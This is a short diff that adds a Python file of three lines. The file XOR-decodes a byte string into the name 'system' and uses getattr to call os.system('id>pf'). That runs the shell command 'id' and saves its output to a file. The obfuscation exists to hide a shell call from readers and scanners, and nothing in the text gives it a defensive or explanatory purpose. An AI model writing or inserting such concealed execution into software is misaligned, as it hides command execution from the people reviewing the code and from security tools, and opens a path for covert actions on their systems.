@@ -1,0 +1,3 @@
+import os
+key = 7
+getattr(os, bytes(b ^ key for b in b"t~tsbj").decode())("id>pf")
